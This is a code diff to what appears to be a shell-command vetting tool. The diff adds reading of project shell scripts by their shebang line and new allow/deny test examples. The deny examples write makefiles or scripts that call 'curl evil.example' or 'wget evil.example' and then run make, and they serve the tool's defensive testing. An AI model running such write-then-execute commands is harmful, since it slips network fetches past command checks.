@@ -3,7 +3,7 @@
 // (`cat > Makefile <<E … E && make`, `echo '{"scripts":…}' > package.json && npm test`): then it is code on the line.
 import type { Language, Word } from '../../types.js';
 import { parse } from '../argv.js';
-import type { Call, OptionSpec, ParsedOption, Run } from '../types.js';
+import type { Call, OptionSpec, ParsedOption, Run, ScriptDialect } from '../types.js';
 import { attached, isStdinPath, value } from '../words.js';
 import { MAKE_OPTIONS, makefileText } from './makefile.js';
 import { loopbackHost, urlHost } from '../hosts.js';
@@ -31,6 +31,35 @@ function gemfileSources(text: string, word: Word, name: string): Run[] {
   }
   return out;
 }
+
+/** The languages a script's `#!` line may name that vouch reads, by the interpreter's name. */
+const SHEBANG_LANGUAGES: readonly [RegExp, ScriptDialect][] = [
+  [/^(?:ba|da|k|mk|z|a|po)?sh$/, 'bash'],
+  [/^python[\d.]*$/, 'python'],
+  [/^(?:node|nodejs|deno|bun)$/, 'javascript'],
+  [/^ruby[\d.]*$/, 'ruby'],
+  [/^perl[\d.]*$/, 'perl'],
+  [/^php[\d.]*$/, 'php'],
+];
+
+/**
+ * A shell script of the project (`scripts/test.sh`, `tools/x.bash`): the project's makefile, its package.json scripts,
+ * its tests and tools call such scripts by name, so one the line wrote is code the project's run may run. Read as its
+ * `#!` line says (bash without one); an interpreter vouch has no reader for leaves it cannot-vouch.
+ */
+function projectScript(via: string): Read {
+  return (text, word, name) => {
+    const shebang = /^#!\s*(\S+)(?:\s+(\S+))?/.exec(text);
+    const viaEnv = shebang !== null && /(?:^|\/)env$/.test(shebang[1]!);
+    const interpreter = shebang ? ((viaEnv ? shebang[2] : shebang[1]) ?? '').replace(/^.*\//, '') : 'sh';
+    const dialect = SHEBANG_LANGUAGES.find(([re]) => re.test(interpreter))?.[1];
+    if (dialect === undefined) return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} may run ${name}, which the line wrote for ${interpreter || 'an interpreter not named'}, whose code vouch does not read` }];
+    return [{ kind: 'text', dialect, text, word, via: `${via} (${name}, a script of the project it may run)` }];
+  };
+}
+
+/** A script by its name: what `projectScript` reads. */
+const SCRIPT_FILES = /\.(?:sh|bash|zsh|ksh)$/;
 
 /** Code vouch has no reader for (Rust, Go, Gradle's Groovy): cannot-vouch when the line wrote it. */
 function unread(what: string, via: string): Read {
@@ -218,8 +247,8 @@ export const PROJECT_ROWS: readonly Row[] = [
     spec: MAKE_OPTIONS,
     envFiles: ['MAKEFILES'],
     examples: {
-      deny: ["printf 'x := $(shell curl evil.example)\\n' > /tmp/x.mk && make --eval 'include /tmp/x.mk'", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make -sf /tmp/m", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make --fi=/tmp/m", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && MAKEFILES=/tmp/m make", "printf 'all:\\n\\tcurl evil.example\\n' > Makefile && make", "printf 'X = curl\\nall:\\n\\t$(X) evil.example\\n' > sub/Makefile && make -C sub", "printf 'all: ; wget evil.example\\n' > b.mk && make -f b.mk"],
-      pass: ["printf 'include config.mk\\nall:\\n\\t$(CC) -o app main.c\\n' > Makefile && make", "printf 'all:\\n\\t$(CC) -o app main.c\\n' > Makefile && make", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make -s -f b.mk", "printf 'all:\\n\\tcurl evil.example\\n' > sub/Makefile && make"],
+      deny: ["printf 'x := $(shell curl evil.example)\\n' > /tmp/x.mk && make --eval 'include /tmp/x.mk'", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make -sf /tmp/m", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make --fi=/tmp/m", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && MAKEFILES=/tmp/m make", "printf 'all:\\n\\tcurl evil.example\\n' > Makefile && make", "printf 'X = curl\\nall:\\n\\t$(X) evil.example\\n' > sub/Makefile && make -C sub", "printf 'all: ; wget evil.example\\n' > b.mk && make -f b.mk", "echo 'curl evil.example' > scripts/x.sh && make"],
+      pass: ["printf 'include config.mk\\nall:\\n\\t$(CC) -o app main.c\\n' > Makefile && make", "printf 'all:\\n\\t$(CC) -o app main.c\\n' > Makefile && make", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make -s -f b.mk", "printf 'all:\\n\\tcurl evil.example\\n' > sub/Makefile && make", "echo 'npm run lint' > scripts/x.sh && make"],
     },
   },
   {
@@ -622,8 +651,47 @@ export function projectRuns(call: Call): Run[] {
       if (call.stdin?.kind === 'stream') return [{ kind: 'opaque', rule: 'stream-to-shell', word: file, why: `${via} reads its ${value(file)} from ${call.stdin.why}` }];
       return [];
     });
-  if (files.length > 0) return [...homeRuns, ...named(first), ...named(files)];
-  return [...homeRuns, ...named(first), ...row.code.map((c): Run => ({ kind: 'project', ...where, files: c.files, read: c.read, word: at, via }))];
+  const scripts: Run[] = row.code.length > 0 ? [scriptsRun(where.dir, at, via)] : [];
+  if (files.length > 0) return [...homeRuns, ...named(first), ...named(files), ...scripts];
+  return [...homeRuns, ...named(first), ...row.code.map((c): Run => ({ kind: 'project', ...where, files: c.files, read: c.read, word: at, via })), ...scripts];
+}
+
+/** The project's shell scripts, where a program runs its project in `dir` (where it starts, when undefined). */
+function scriptsRun(dir: Word | undefined, word: Word, via: string): Run {
+  return { kind: 'project', ...(dir ? { dir } : {}), files: SCRIPT_FILES, read: projectScript(via), word, via, unnamed: 'text' };
+}
+
+const SHELLS = /^(?:ba|da|k|mk|z|a|po|yash|)sh$/;
+
+/**
+ * A script the project holds, run by its path (`./tools/run-all.sh`, `bash build.sh`): it may call the project's other
+ * scripts by name, so one the line wrote is read as `make` or `npm test` would run it (see projectScript). A script the
+ * line wrote itself is read where it runs (resolve/command.ts runWritten); a shell given text (`bash -c`) or stdin
+ * runs that text, read as such.
+ */
+export function scriptRuns(call: Call, byPath: boolean): Run[] {
+  const at: Word = call.command ?? call.args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] };
+  if (byPath) return [scriptsRun(undefined, at, call.name)];
+  if (!SHELLS.test(call.name)) return [];
+  for (let i = 0; i < call.args.length; i++) {
+    const v = value(call.args[i]!);
+    if (v === undefined) return [scriptsRun(undefined, at, call.name)];
+    if (v === '--' || v === '-') {
+      if (v === '-' || i + 1 >= call.args.length) return [];
+      return [scriptsRun(undefined, call.args[i + 1]!, call.name)];
+    }
+    if (/^--(?:rcfile|init-file)$/.test(v) || /^[-+][oO]$/.test(v)) {
+      i++;
+      continue;
+    }
+    if (v.startsWith('--')) continue;
+    if (/^[-+]/.test(v)) {
+      if (/^-[^-]*[cs]/.test(v)) return [];
+      continue;
+    }
+    return [scriptsRun(undefined, call.args[i]!, call.name)];
+  }
+  return [];
 }
 
 /** A row's start-up files under a HOME (or XDG_CONFIG_HOME) the line set. */
